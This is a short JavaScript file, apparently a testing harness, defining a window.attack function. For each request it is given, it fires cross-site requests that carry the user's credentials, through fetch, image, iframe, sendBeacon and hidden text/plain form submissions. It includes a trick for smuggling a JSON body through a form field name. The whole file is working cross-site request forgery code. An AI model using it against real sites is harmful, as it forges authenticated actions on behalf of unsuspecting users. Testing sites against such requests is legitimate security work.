/**
 * Runs in the page: sends each attempt in every way that a page has without asking the server first.
 * @param {readonly { method: 'GET' | 'POST', url: string, body?: string }[]} attempts
 */
window.attack = async (attempts) => {
  const finished = (element) =>
    new Promise((resolve) => {
      element.onload = resolve
      element.onerror = resolve
      document.body.append(element)
    })
  for (const { method, url, body = '' } of attempts) {
    const headers = { 'content-type': 'text/plain' }
    const init = { method, headers, credentials: 'include', ...(method === 'POST' && { body }) }
    await fetch(url, { ...init, mode: 'no-cors' }).catch(() => {})
    await fetch(url, init).catch(() => {})
    const frame = Object.assign(document.createElement('iframe'), { name: `frame${Math.random()}` })
    if (method === 'GET') {
      await finished(Object.assign(new Image(), { src: url }))
      await finished(Object.assign(frame, { src: url }))
      continue
    }
    navigator.sendBeacon(url, body)
    const form = Object.assign(document.createElement('form'), { method, action: url, enctype: 'text/plain' })
    form.target = frame.name
    // A form sends text as `name=value`: the equals sign goes where JSON does not mind it.
    const name = body.replace(/}$/, ',"a":"')
    form.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
    document.body.append(form)
    const sent = finished(frame)
    form.submit()
    await sent
  }
}
